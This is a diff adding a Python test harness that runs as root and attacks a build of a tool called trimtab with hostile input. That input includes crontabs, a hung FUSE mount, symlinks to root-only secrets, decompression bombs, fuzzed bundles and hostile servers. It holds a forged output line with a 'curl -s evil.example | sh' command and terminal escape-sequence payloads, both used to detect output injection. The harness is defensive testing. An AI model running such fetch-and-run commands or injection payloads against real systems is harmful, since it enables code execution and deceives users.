@@ -1,0 +1,418 @@
+#!/usr/bin/env python3
+"""Attacks a build of trimtab: hostile users' files, bundles, histories, cluster states and servers.
+
+Usage: run.py TRIMTAB [GROUP...]          as root, in a scratch directory of its own
+
+Each case runs one command under a time limit and measures its peak memory. A case is survived if the command
+ends by itself in time, with an exit code of its own (0 to 3), below its memory limit, and if its output holds
+nothing that it must not hold: control characters, a forged line, a secret. Prints the cases that fell and a
+table by command. Ends with 1 if any fell.
+
+Groups: users (local users' crontabs, scripts, links and a hung mount, in a mount namespace), bundles,
+histories, states, names (escape sequences and line breaks in foreign names), servers, mutated (bundles,
+histories and states with random bytes changed).
+"""
+
+import ctypes
+import json
+import os
+import random
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+HERE = Path(__file__).resolve().parent
+sys.path.insert(0, str(HERE))
+import servers  # noqa: E402
+
+MB = 1000  # kB
+#: Local users' files: as the tool promises. Other input is given by whoever calls, and may be large.
+USERS_KB, OTHER_KB = 300 * MB, 1200 * MB
+SECRET = "ghp_KANARY16C7e42F292c6912E7710c838347Ae178B4a"
+FORGED = "\n\nerror    TRIM001  forged\nfix Run this now:\ncurl -s evil.example | sh\n\n"
+ESCAPES = "\x1b]0;PWN\x07\u202e"
+CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+class Lab:
+    def __init__(self, binary):
+        self.binary = str(Path(binary).resolve())
+        self.dir = Path(tempfile.mkdtemp(prefix="trimtab-attack-"))
+        self.rows = {}
+        self.fell = []
+
+    def case(self, name, words, *, seconds=10, kb=OTHER_KB, absent=(), prepare=None, stdin=None, codes=(0, 1, 2, 3)):
+        """Runs one command; `prepare` is a shell script that runs before it, in its own mount namespace."""
+        argv = [self.binary, *map(str, words)]
+        if prepare is not None:
+            script = f'set -e\n{prepare}\nexec "$@"'
+            argv = ["unshare", "--mount", "--propagation", "private", "sh", "-c", script, "sh", *argv]
+        out = self.dir / "out"
+        began = time.monotonic()
+        with open(out, "wb") as file:
+            child = subprocess.Popen(
+                argv,
+                stdin=stdin or subprocess.DEVNULL,
+                stdout=file,
+                stderr=subprocess.STDOUT,
+                cwd=self.dir,
+                env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LC_ALL": "C.UTF-8", "TERM": "dumb"},
+                start_new_session=True,
+            )
+        pid, status, usage = 0, 0, None
+        while time.monotonic() - began < seconds + 1:
+            pid, status, usage = os.wait4(child.pid, os.WNOHANG)
+            if pid:
+                break
+            time.sleep(0.01)
+        took = time.monotonic() - began
+        why = []
+        if not pid:
+            os.killpg(child.pid, signal.SIGKILL)
+            time.sleep(0.5)
+            pid, status, usage = os.wait4(child.pid, os.WNOHANG)
+            why.append("killed after %d s%s" % (seconds, "" if pid else ", and still there (state D)"))
+        elif os.WIFSIGNALED(status):
+            why.append(f"signal {os.WTERMSIG(status)}")
+        elif os.WEXITSTATUS(status) not in codes:
+            why.append(f"exit code {os.WEXITSTATUS(status)}")
+        elif took > seconds:
+            why.append("%.1f s, of %d" % (took, seconds))
+        peak = usage.ru_maxrss if pid else 0
+        if peak > kb:
+            why.append(f"{peak // MB} MB, of {kb // MB}")
+        text = out.read_bytes().decode("utf-8", "replace")
+        found = CONTROL.search(text)
+        if found:
+            why.append(f"control character {found.group()!a} in {text[max(0, found.start() - 30):found.end() + 9]!a}")
+        if any(line.startswith(("error    TRIM001  forged", "curl -s evil")) for line in text.splitlines()):
+            why.append("a forged line")
+        why += [f"output holds {word!r}" for word in absent if word in text]
+        self.record(name, str(words[0]), why, took, peak)
+        return text
+
+    def record(self, name, command, why, took=0.0, peak=0):
+        row = self.rows.setdefault(command, [0, 0, 0.0, 0])
+        row[0] += 1
+        row[1] += not why
+        row[2] = max(row[2], took)
+        row[3] = max(row[3], peak)
+        if why:
+            self.fell.append(f"{name}: {'; '.join(why)}")
+
+    def report(self):
+        for line in self.fell:
+            print(f"fell: {line}")
+        print(f"\n{'command':10} {'tried':>7} {'survived':>9} {'longest':>9} {'peak memory':>12}")
+        for command, (tried, survived, took, peak) in sorted(self.rows.items()):
+            print(f"{command:10} {tried:>7} {survived:>9} {took:>7.1f} s {peak / MB:>9.0f} MB")
+        tried, survived = (sum(row[i] for row in self.rows.values()) for i in (0, 1))
+        print(f"{'all':10} {tried:>7} {survived:>9}")
+
+    def file(self, name, content):
+        path = self.dir / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(content if isinstance(content, bytes) else content.encode())
+        return path
+
+
+def series(lab, name="daily.csv", header="time,ms", days=60):
+    """A series of hours that is worse at 03:00."""
+    lines = [header]
+    for hour in range(days * 24):
+        at = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(1_788_000_000 + hour * 3600))
+        lines.append(f"{at},{10 + 5 * (hour % 24 == 3) + hour * 7 % 3 * 0.1:.2f}")
+    return lab.file(name, "\n".join(lines) + "\n")
+
+
+# ---- local users ----
+
+#: An empty place for every file that is about jobs, and another machine's would-be jobs in it.
+CLEAN = """
+for place in /etc/cron.d /etc/cron.daily /etc/cron.weekly /etc/systemd/system /var/spool /opt; do
+    mkdir -p $place; mount -t tmpfs tmpfs $place
+done
+mkdir -p /var/spool/cron/crontabs
+touch /etc/crontab
+"""
+
+
+class HungMount:
+    """A FUSE filesystem whose server never answers."""
+
+    def __init__(self, at, fs_type="fuse"):
+        self.at = Path(at)
+        self.at.mkdir(parents=True, exist_ok=True)
+        self.server = os.open("/dev/fuse", os.O_RDWR)
+        options = f"fd={self.server},rootmode=40000,user_id=0,group_id=0,allow_other"
+        libc = ctypes.CDLL(None, use_errno=True)
+        if libc.mount(b"hangs", str(self.at).encode(), fs_type.encode(), 0, options.encode()):
+            raise OSError(ctypes.get_errno(), f"cannot mount {fs_type}")
+
+    def close(self):
+        subprocess.run(["umount", "--lazy", str(self.at)], check=False)
+        os.close(self.server)
+
+
+def live_commands(lab, csv):
+    return {
+        "check": ["check", "--exit-zero"],
+        "nagios": ["check", "--format", "nagios"],
+        "collect": ["collect", "--force", "-o", lab.dir / "c.tar.zst"],
+        "explain": ["explain", csv, "--jobs", "/"],
+        "ssd": ["ssd", "run", "--from-host", "/"],
+        "trim": ["trim", "--all", "--dry-run"],
+    }
+
+
+def users(lab):
+    csv = series(lab)
+    long_line = lab.file("long", "1," * 50_000 + "1 * * * * fstrim -a\n")
+    many = lab.file("many", "".join(f"{i % 60} {i % 24} * * * fstrim /m{i} && backup {i}\n" for i in range(20_000)))
+    tenfold = lab.file("tenfold", ("* * * * * " + "; ".join(f"fstrim /m{i}" for i in range(10)) + "\n") * 20_000)
+    lists = lab.file("lists", ("0-59,1-58,2-57 0-23,1-22 * * * fstrim -a\n") * 5_000)
+    crontab = "/var/spool/cron/crontabs/nobody"
+    for name, words in live_commands(lab, csv).items():
+        for what, path in {"long line": long_line, "many jobs": many, "ten fstrims": tenfold, "lists": lists}.items():
+            lab.case(f"H1 {what}: {name}", words, seconds=20, kb=USERS_KB, prepare=f"{CLEAN}\ncp {path} {crontab}")
+    hung = HungMount(lab.dir / "hung")
+    dead = hung.at
+    plants = {
+        "guard in a user's crontab": f"printf '5 5 * * 0 test -f {dead}/x && fstrim -a\\n' > {crontab}",
+        "guard in cron.d": f"printf '5 5 * * 0 root [ -x {dead}/x ] && fstrim -a\\n' > /etc/cron.d/guard",
+        "guard through the kernel's links": f"printf '5 5 * * 0 root test -f /proc/self/root{dead}/x && fstrim -a\\n' > /etc/cron.d/g",
+        "link in cron.d": f"ln -s {dead}/crontab /etc/cron.d/link",
+        "link in cron.weekly": f"ln -s {dead}/weekly /etc/cron.weekly/link",
+        "script": f"ln -s {dead}/job.sh /opt/job.sh; printf '5 5 * * 0 root /opt/job.sh\\n' > /etc/cron.d/script",
+        "script below a link": f"ln -s {dead} /opt/app; printf '5 5 * * 0 /opt/app/job.sh\\n' > {crontab}",
+        "unit": f"ln -s {dead}/x.timer /etc/systemd/system/x.timer; printf '[Timer]\\nOnCalendar=weekly\\n' > /etc/systemd/system/y.timer; "
+        f"printf '[Unit]\\nConditionPathExists={dead}/x\\n[Service]\\nExecStart={dead}/x\\n' > /etc/systemd/system/y.service",
+        "mounted on /opt": f"mount --bind {dead} /opt; printf '5 5 * * 0 /opt/job.sh\\n' > {crontab}",
+    }
+    for name, words in live_commands(lab, csv).items():
+        for what, plant in plants.items():
+            lab.case(f"H2 {what}: {name}", words, seconds=20, kb=USERS_KB, prepare=f"{CLEAN}\n{plant}")
+    for path in [dead, dead / "below"]:
+        for words in [["--dry-run"], ["--dry-run", "--force"], ["--status"], ["--cancel"]]:
+            lab.case(f"H2 trim {' '.join(words)} {path.name}", ["trim", *words, path], kb=USERS_KB)
+        lab.case(f"H2 ssd --from-host {path.name}", ["ssd", "run", "--from-host", path], kb=USERS_KB)
+        lab.case(f"H2 check --data-path {path.name}", ["check", "--data-path", path], kb=USERS_KB)
+    hung.close()
+    leak(lab, crontab)
+
+
+def leak(lab, crontab):
+    """M2: a user's crontab names a script that is a link to a file that only root may read."""
+    secret = lab.file("secret", SECRET + "\n")
+    secret.chmod(0o600)
+    root_script = lab.file("root.sh", f"#!/bin/sh\n{SECRET}\n")
+    root_script.chmod(0o700)
+    plants = {
+        "link to a secret": f"ln -s {secret} /opt/leak.sh",
+        "link to root's script": f"ln -s {root_script} /opt/leak.sh",
+        "root's script": f"cp {root_script} /opt/leak.sh; chmod 700 /opt/leak.sh",
+    }
+    for what, plant in plants.items():
+        for extra in [[], ["--anonymise"]]:
+            bundle = lab.dir / "leak.tar.zst"
+            lab.case(
+                f"M2 {what}",
+                ["collect", "--force", "-o", bundle, *extra],
+                kb=USERS_KB,
+                absent=[SECRET],
+                prepare=f"{CLEAN}\n{plant}\nprintf '5 5 * * 0 /opt/leak.sh; fstrim -a\\n' > {crontab}",
+            )
+            plain = subprocess.run(["zstd", "-dcq", bundle], capture_output=True, check=False).stdout
+            lab.record(f"M2 {what}: the bundle", "collect", ["holds the secret"] if SECRET.encode() in plain else [])
+
+
+# ---- bundles ----
+
+
+def bundles(lab):
+    made = lab.dir / "bundles"
+    made.mkdir()
+    subprocess.run([sys.executable, HERE / "bundles.py", made], check=True)
+    csv = series(lab)
+    for path in sorted(made.iterdir()):
+        lab.case(f"M1 {path.stem}: check", ["check", "--bundle", path], seconds=10)
+        lab.case(f"M1 {path.stem}: explain", ["explain", csv, "--jobs", path], seconds=20)
+
+
+# ---- foreign names ----
+
+
+def root_with(lab, name, files):
+    root = lab.dir / name
+    for path, text in files.items():
+        lab.file(f"{name}/{path}", text)
+    return root
+
+
+def names(lab):
+    base = {
+        "proc/self/mountinfo": "22 1 8:1 / / rw,relatime - ext4 /dev/sda1 rw\n",
+        "etc/os-release": "ID=debian\n",
+        "proc/sys/kernel/osrelease": "6.1.0\n",
+    }
+    for what, text in {"escapes": ESCAPES, "line breaks": FORGED}.items():
+        encoded = text.replace("\n", "\\012").replace("\x1b", "\\033")
+        for place, files in {
+            "host name": {"proc/sys/kernel/hostname": f"db1{text}\n"},
+            "system": {"etc/os-release": f'ID=debian\nPRETTY_NAME="Debian{text}"\n'},
+            "kernel": {"proc/sys/kernel/osrelease": f"6.1{text}\n"},
+            "mount": {"proc/self/mountinfo": base["proc/self/mountinfo"] + f"23 1 8:2 / /srv{encoded} rw,discard - ext4 /dev/sda2 rw\n"},
+            "store": {"proc/77/comm": "mongod\n", "proc/77/cmdline": f"mongod\0--dbpath\0/tmp{text}\0"},
+            "job": {"etc/cron.d/x": f"5 5 * * 0 root fstrim '/srv{text}'\n"},
+        }.items():
+            root = root_with(lab, f"root-{what}-{place}".replace(" ", "-"), {**base, **files})
+            for form in ["text", "markdown", "nagios", "sarif", "json"]:
+                lab.case(f"M5 {place}, {what}, {form}", ["check", "--root", root, "--format", form, *(["-v"] if form == "text" else [])])
+        quoted = '"' + f"ms{text}" + '"'
+        csv = series(lab, f"names-{len(text)}.csv", header=f"time,{quoted}")
+        for words in [[], ["--format", "html"], ["--format", "markdown"], ["--select", "nope"]]:
+            lab.case(f"M5 series, {what} {words}", ["explain", csv, "--jobs", "none", *words], seconds=30)
+        bad = lab.file(f"bad-{len(text)}.csv", f"time,{quoted}\n2026-01-01,1\n2026-01-02,x\n")
+        lab.case(f"M4 column of a bad value, {what}", ["explain", bad, "--jobs", "none"])
+    odd = "t\x1b]0;PWN\x07\u202e"
+    race = lab.file(f"races/{odd}/race.json", "{").parent.parent
+    lab.case("M4 a race's directory", ["explain", race, "--jobs", "none"])
+    damaged = lab.file(f"{odd}.tar", b"\x00" * 600 + b"x" * 600)
+    for form in ["text", "nagios"]:
+        lab.case(f"M4 a damaged bundle's name, {form}", ["check", "--bundle", damaged, "--format", form])
+    diagnostics = lab.file(f"diag/metrics.{odd}", b"\x10\x00\x00\x00rubbish-rubbish").parent
+    lab.case("M4 names of diagnostic data", ["explain", diagnostics, "--jobs", "none"])
+    state = lab.file("state.json", json.dumps({"cluster_name": odd, "nodes": {odd: {"name": odd, "x": 1}}, "routing_table": {"indices": {odd: {"shards": {odd: [{}]}}}}}))
+    for words in [["reroute"], ["what-if", "--remove-node", odd]]:
+        lab.case(f"M4 names of a state: {words[0]}", ["shards", words[0], "--state", state, *words[1:]])
+    secret = lab.file("shadow", f"root:{SECRET}:19000:0:99999:7:::\n")
+    lab.case("an unrecognised file's content", ["explain", secret, "--jobs", "none"], absent=[SECRET])
+    config = {
+        "proc/77/comm": "mongod\n",
+        "proc/77/cmdline": "mongod\0-f\0/etc/mongod.conf\0",
+        "etc/mongod.conf": f"{SECRET}: a\n{SECRET}: b\n",
+    }
+    lab.case("L2 a key twice", ["check", "--root", root_with(lab, "twice", {**base, **config}), "-v"], absent=[SECRET])
+    spoofed = [
+        {"__REALTIME_TIMESTAMP": str((1_788_000_000 + day * 86_400 + 3 * 3600) * 10**6), "SYSLOG_IDENTIFIER": "CRON",
+         "_UID": "1000", "_COMM": "logger", "_PID": "9", "MESSAGE": "(root) CMD (kanaryjob)"}
+        for day in range(60)
+    ]
+    log = lab.file("spoof.json", "".join(json.dumps(entry) + "\n" for entry in spoofed))
+    jobs = root_with(lab, "jobs", {**base, "etc/cron.d/k": "1 4 * * * root kanaryjob\n0 3 * * * root other\n"})
+    text = lab.case("L1 spoofed log", ["explain", series(lab), "--jobs", jobs, "--log", log, "--tz", "UTC", "--format", "json"], seconds=60)
+    blamed = re.search(r'"confirmed by the log"|"in_log": *true', text)
+    lab.record("L1 spoofed log is believed", "explain", ["blames the spoofed job"] if blamed else [])
+
+
+# ---- histories and states ----
+
+
+def histories(lab):
+    rows = 2_000_000
+    text = "".join(f"{1_700_000_000 + i},{i % 97}\n" for i in range(rows))
+    big = lab.file("rows.csv", "time,v\n" + text)
+    lab.case(f"L5 {rows} rows", ["explain", big, "--jobs", "none"], seconds=120)
+    wide = lab.file("wide.csv", "time," + ",".join(f"c{i}" for i in range(200_000)) + "\n" + "1700000000," + ",".join("1" * 200_000) + "\n")
+    lab.case("200,000 columns", ["explain", wide, "--jobs", "none"], seconds=60)
+    with open(lab.dir / "zeros.zst", "wb") as out:
+        subprocess.run("(echo time,v; yes 1700000000,1 | head -c 20G) | zstd -q1", shell=True, stdout=out, check=True)
+    lab.case("L5 20 GB of rows in 2 MB", ["explain", lab.dir / "zeros.zst", "--jobs", "none"], seconds=120)
+    deep = lab.file("deep.json", "[" * 200_000)
+    lab.case("200,000 brackets", ["explain", deep, "--jobs", "none"])
+    target = lab.file("target", "precious")
+    link = lab.dir / "link.html"
+    link.symlink_to("/dev/full")
+    lab.case("L9 -o on a full disk", ["explain", series(lab), "--jobs", "none", "-o", link, "--format", "html"], seconds=30)
+    lab.record("L9 the target is kept", "explain", [] if target.read_text() == "precious" else ["emptied"])
+    checkpoints = lab.dir / "passes"
+    checkpoints.mkdir(mode=0o700)
+    (checkpoints / "pass-x.json").write_text("garbage")
+    lab.case("L6 a damaged checkpoint", ["trim", "--status", "--state", checkpoints])
+
+
+def states(lab):
+    settings = {f"k{i}": "v" for i in range(300_000)}
+    index = {"state": "open", "settings": {"index": {"number_of_shards": "1", "number_of_replicas": "1", "uuid": "u", "version": {"created": "7040099"}, "routing": {"allocation": {"require": settings}}}}}
+    shard = {"state": "STARTED", "primary": True, "node": "n1", "relocating_node": None, "shard": 0, "index": "i", "allocation_id": {"id": "a"}}
+    state = {
+        "cluster_name": "c", "master_node": "n1",
+        "nodes": {f"n{i}": {"name": f"node-{i}", "attributes": {}, "roles": ["data"]} for i in (1, 2)},
+        "metadata": {"cluster_uuid": "c", "indices": {"i": index}},
+        "routing_table": {"indices": {"i": {"shards": {"0": [shard]}}}},
+        "routing_nodes": {"unassigned": [], "nodes": {"n1": [shard], "n2": []}},
+    }
+    path = lab.file("filters.json", json.dumps(state))
+    for words in [["reroute"], ["what-if", "--remove-node", "node-2"]]:
+        lab.case(f"L4 300,000 filters: {words[0]}", ["shards", words[0], "--state", path, *words[1:]], seconds=20)
+    lab.case("a million nodes", ["shards", "cost", "--shards", "1000000", "--nodes", "1000000"])
+
+
+def mutated(lab, rounds=60):
+    """Random bytes changed, cut and repeated: no panic, no hang."""
+    seeds = {
+        "check": [(["check", "--exit-zero", "--bundle"], path) for path in sorted((HERE.parent / "hosts").glob("*.tar.zst"))],
+        "explain": [(["explain", "--jobs", "none"], series(lab)), (["explain", "--jobs", "none"], HERE.parent / "explain-cases/mongo-03.iostat.txt")],
+    }
+    rng = random.Random(19)
+    for name, inputs in seeds.items():
+        for index in range(rounds):
+            words, path = inputs[index % len(inputs)]
+            data = path.read_bytes()
+            if path.suffix == ".zst":
+                # Below the compression, half of the time.
+                plain = subprocess.run(["zstd", "-dcq", path], capture_output=True, check=True).stdout
+                data = plain if index % 2 else data
+            data = bytearray(data)
+            for _ in range(rng.randint(1, 30)):
+                at = rng.randrange(len(data))
+                kind = rng.randrange(4)
+                if kind == 0:
+                    data[at] = rng.randrange(256)
+                elif kind == 1:
+                    del data[at : at + rng.randint(1, 600)]
+                elif kind == 2:
+                    data[at:at] = data[at : at + rng.randint(1, 600)]
+                else:
+                    data[at:at] = rng.choice([b"\xff" * 9, b"9" * 40, b"-1", b"\x00", b"\n\n", b"%s", b"\x1b[31m", b"1e999", b'"'])
+                data = data or bytearray(b"x")
+            lab.case(f"mutated {name} {index} ({path.name})", [*words, lab.file(f"mutated.{name}", bytes(data))], seconds=60)
+
+
+def hostile_servers(lab):
+    csv_question = ["--jobs", "none"]
+    for mode in servers.MODES:
+        with servers.Server(mode, FORGED, ESCAPES) as url:
+            limit = {"seconds": 30, "kb": OTHER_KB}
+            lab.case(f"server {mode}: check", ["check", "--cluster", url, "--timeout", "5s"], **limit)
+            lab.case(f"server {mode}: explain", ["explain", f"{url}/_nodes", *csv_question, "--timeout", "5s"], **limit)
+            lab.case(f"server {mode}: trim", ["trim", "/", "--now", "--dry-run", "--require-green", url], **limit)
+
+
+GROUPS = {
+    "users": users, "bundles": bundles, "names": names, "histories": histories,
+    "states": states, "servers": hostile_servers, "mutated": mutated,
+}
+
+
+def main():
+    if len(sys.argv) < 2 or os.geteuid() != 0:
+        sys.exit(__doc__)
+    lab = Lab(sys.argv[1])
+    try:
+        for name in sys.argv[2:] or GROUPS:
+            GROUPS[name](lab)
+    finally:
+        subprocess.run(f"umount --lazy {lab.dir}/hung 2>/dev/null", shell=True, check=False)
+        shutil.rmtree(lab.dir, ignore_errors=True)
+    lab.report()
+    sys.exit(bool(lab.fell))
+
+
+if __name__ == "__main__":
+    main()
